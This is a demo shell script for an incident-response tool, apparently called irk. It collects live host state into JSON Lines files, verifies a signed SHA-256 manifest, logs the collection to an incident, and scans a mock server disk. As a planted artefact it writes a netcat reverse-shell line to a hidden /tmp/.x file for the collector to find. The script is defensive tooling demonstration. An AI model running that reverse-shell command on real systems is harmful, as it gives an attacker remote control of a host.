# 40-collect.sh - live collection: a snapshot of this host, in order of
# volatility, read from /proc and files without running any host program,
# then recorded in incident 1's log book.
say "Live collection of this host (no casebook needed; nothing of the host is run)"
[ -f "$XDG_CONFIG_HOME/irk/identity" ] || run id --name "Demo Responder" --email responder@example.org
[ -d .irk ] || run init
irk show 1 >/dev/null 2>&1 || run open "Suspicious process on $(uname -n)" --severity high
say "The demo lives in /tmp, a collected tree, hence --force-inside (use other media for real)"
run collect -o "$DEMO/collection" --force-inside --copy-max 16M --attach 1
say "One JSON Lines file per area; every file's SHA-256 in the signed MANIFEST"
for f in "$DEMO"/collection/*.jsonl; do
	printf '  %-26s %6d\n' "$(basename "$f")" "$(wc -l <"$f")"
done
(cd "$DEMO/collection" && sha256sum -c --quiet MANIFEST && echo "  MANIFEST: all $(wc -l <MANIFEST) files match")
say "The collection is now an entry of the incident's log book"
printf "$ irk show 1 | tail -n 4\n"
irk show 1 | tail -n 4
say "A switched-off server's disk, mounted on this machine: --root reads it as if it were /"
mkdir -p "$DEMO/disk/etc" "$DEMO/disk/tmp" "$DEMO/disk/var/log"
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$DEMO/disk/etc/passwd"
echo web1 >"$DEMO/disk/etc/hostname"
printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n' >"$DEMO/disk/tmp/.x" && chmod 0755 "$DEMO/disk/tmp/.x"
run collect --root "$DEMO/disk" -o "$DEMO/disk-collection" --copy-max 16M
printf "$ grep /tmp/.x %s\n" "$DEMO/disk-collection/tempdirs.jsonl"
grep /tmp/.x "$DEMO/disk-collection/tempdirs.jsonl" | cut -c1-160
